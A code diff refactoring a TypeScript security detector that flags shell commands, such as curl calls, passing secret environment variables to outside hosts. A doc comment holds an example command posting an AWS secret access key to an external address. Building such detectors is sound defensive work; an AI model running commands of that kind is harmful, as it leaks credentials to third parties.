@@ -1,5 +1,6 @@
 import type { Finding } from '../../../finding.ts'
 import { finding, nameIs, none } from '../detector.ts'
+import { looksByName, unconcerned } from '../dispatch.ts'
 import type { Invocation } from '../shell/model.ts'
 
 const NAME = 'upload'
@@ -28,8 +29,10 @@ const address = /^(?:https?:\/\/)?((?:[\w$\uE000\uE001{}-]+\.)+[a-z]{2,})(?::\d+
 const atHome = /(^|\.)(localhost|internal|local|lan|corp|intranet|svc|test)$/i
 
 /** The key of one service, handed to another: `curl -d "k=$AWS_SECRET_ACCESS_KEY" https://api.example.net`. */
-export function keysAbroad({ name, args }: Invocation): readonly Finding[] {
-  if (!clients(name)) return none
+export const keysAbroad = looksByName(handsKeyOn)
+
+function handsKeyOn({ name, args }: Invocation): readonly Finding[] {
+  if (!clients(name)) return unconcerned
   const held = args.flatMap((arg) =>
     arg.includes('$') && !/^https?:/.test(arg)
       ? [...arg.matchAll(variables)].map((match) => match[1] ?? '')
